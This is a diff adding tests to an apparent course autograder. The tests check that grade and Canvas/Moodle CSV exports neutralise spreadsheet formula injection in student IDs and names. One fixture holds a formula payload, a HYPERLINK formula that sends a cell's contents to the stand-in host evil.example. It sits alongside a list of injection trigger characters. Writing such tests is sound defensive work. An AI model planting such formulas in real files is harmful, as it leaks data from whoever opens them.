@@ -177,3 +177,89 @@ def test_late_policy_in_canvas_and_plain(tmp_path, roster_file):
     late = read_csv(tmp_path / "late.csv")
     assert late[2][:8] == ["s02", "relu", "2026-10-14T09:00:00+00:00",
                            "2026-10-12T23:59:00+00:00", "2", "8", "2", "6"]
+
+
+# ---------------------------------------------------------------- formula injection
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def would_run(cell: str) -> bool:
+    """A cell a spreadsheet would evaluate as a formula (OWASP's CSV injection triggers and
+    their full-width forms); a plain number such as -2 or +3.5 is just a number."""
+    import re
+    if re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell):
+        return False
+    return cell.startswith(TRIGGERS)
+
+
+FORMULA_IDS = ["+1+1", "-2+3", "@A1", "-2"]
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+FORMULA_ROSTER = ("nbgrader_id,Student,ID,SIS User ID,SIS Login ID,Section\n"
+                  f"+1+1,\"{HYPERLINK.replace(chr(34), chr(34) * 2)}\",101,2020001,jdoe,+A\n"
+                  "-2+3,@SUM(A1:A9),102,2020002,-rroe,Section B\n"
+                  "@A1,\"\tPoe\",103,,apoe,Section A\n"
+                  "-2,Minus Two,104,-2,mtwo,Section A\n")
+
+
+def test_no_csv_cell_can_run_as_a_formula(tmp_path):
+    """Student ids (folder names) and roster names that a spreadsheet would run land
+    neutralised (a leading quote) in every CSV: the LMS files, the late CSV; the columns
+    Canvas and Moodle match students by are the roster's, kept as they are."""
+    roster = tmp_path / "roster.csv"
+    roster.write_text(FORMULA_ROSTER, encoding="utf-8")
+    for student in FORMULA_IDS:
+        folder = tmp_path / "submitted" / student / "relu"
+        folder.mkdir(parents=True)
+        (folder / "timestamp.txt").write_text("2026-10-14 09:00:00 UTC", encoding="utf-8")
+    policy = tmp_path / "late_policy.toml"
+    policy.write_text('penalty_per_day = 0.1\n[deadlines]\nrelu = "2026-10-12 23:59"\n',
+                      encoding="utf-8")
+    res = write_results(tmp_path, [result(s, "relu", 8.0) for s in FORMULA_IDS])
+    common = ["--results", str(res), "--roster", str(roster), "--late-policy", str(policy),
+              "--submitted", str(tmp_path / "submitted"), "--title", "relu==1+1"]
+    assert cli.main(["lms", "canvas", *common, "--out", str(tmp_path / "c.csv"),
+                     "--late-csv", str(tmp_path / "late.csv")]) == 0
+    assert cli.main(["lms", "plain", *common, "--out", str(tmp_path / "p.csv")]) == 0
+    canvas, plain, late_rows = (read_csv(tmp_path / n) for n in ("c.csv", "p.csv", "late.csv"))
+    matched = {(r, c) for r in range(2, 6) for c in (1, 2, 3)}   # ID, SIS User ID, Login ID
+    for name, rows, keep in (("canvas", canvas, matched), ("plain", plain,
+                                                          {(r, 1) for r in range(1, 5)}),
+                             ("late", late_rows, set())):
+        for r, row in enumerate(rows):
+            for c, cell in enumerate(row):
+                if (r, c) not in keep:
+                    assert not would_run(cell), (name, r, c, cell)
+    # names and ids keep their text after the quote; the ids Canvas matches are verbatim
+    assert canvas[2][:5] == ["'" + HYPERLINK, "101", "2020001", "jdoe", "'+A"]
+    assert canvas[3][:4] == ["'@SUM(A1:A9)", "102", "2020002", "-rroe"]
+    assert canvas[0][5] == "'=1+1"
+    assert [r[0] for r in plain[1:]] == ["'+1+1", "'-2+3", "'@A1", "-2"]
+    assert plain[2][1] == "-rroe" and plain[4][1] == "mtwo"
+    assert [r[0] for r in late_rows[1:]] == ["'+1+1", "'-2+3", "'@A1", "-2"]
+
+
+def test_grade_csv_neutralises_formula_student_ids(tmp_path):
+    import subprocess
+    import sys
+    import toy_course
+    toy_course.make_course(tmp_path)
+    for student in FORMULA_IDS:
+        toy_course.write_submission(tmp_path, student)
+    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "submitted", "--hidden",
+                           "--csv", "grades.csv", "--json", "grades.json", "--jobs", "2",
+                           "--quiet"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    rows = read_csv(tmp_path / "grades.csv")
+    assert sorted(r[0] for r in rows[1:]) == sorted(["'+1+1", "'-2+3", "'@A1", "-2"])
+    assert not [c for row in rows for c in row if would_run(c)]
+    # a regrade merges into the file by the same ids
+    toy_course.write_submission(tmp_path, "+1+1", {"double": "def double(x):\n    return x\n"})
+    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "submitted/+1+1",
+                           "--hidden", "--csv", "grades.csv", "--quiet"], cwd=tmp_path,
+                          capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    rows = read_csv(tmp_path / "grades.csv")
+    assert len(rows) == 5 and [r[0] for r in rows].count("'+1+1") == 1
+    scores = {r[0]: r[rows[0].index("score")] for r in rows[1:]}
+    assert scores["'+1+1"] != scores["'-2+3"]
